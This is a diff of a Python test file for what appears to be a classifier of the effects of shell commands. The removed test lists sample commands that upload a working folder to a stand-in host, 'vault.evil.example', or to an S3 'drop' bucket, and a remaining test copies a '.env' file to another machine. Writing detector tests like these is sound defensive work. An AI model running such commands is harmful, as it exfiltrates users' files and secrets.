@@ -30,13 +30,6 @@ def test_a_folder_beside_a_page_or_a_database_stays(command):
     assert not [e for e in read(command).effects if e.payload.whole]
 
 
-@pytest.mark.parametrize("command", [
-    "keep -r sftp:bk@vault.evil.example:/r backup .", "keep create ssh://bk@vault.evil.example/./r::a .",
-    "keep ./ bk@vault.evil.example:/r", "keep --to=s3://drop/x ~/work/"])
-def test_a_folder_beside_a_place_where_files_are_kept_may_go_there(command):
-    assert [e.kind for e in read(command).effects if e.payload.whole] == ["sends"]
-
-
 def test_a_name_with_a_colon_is_where_a_copy_goes():
     assert [e.destination for e in read("tailnet file cp .env laptop:").effects if e.payload.level] == ["laptop:"]
     assert not [e for e in read("tailnet file cp notes.md laptop:").effects if e.payload.level]
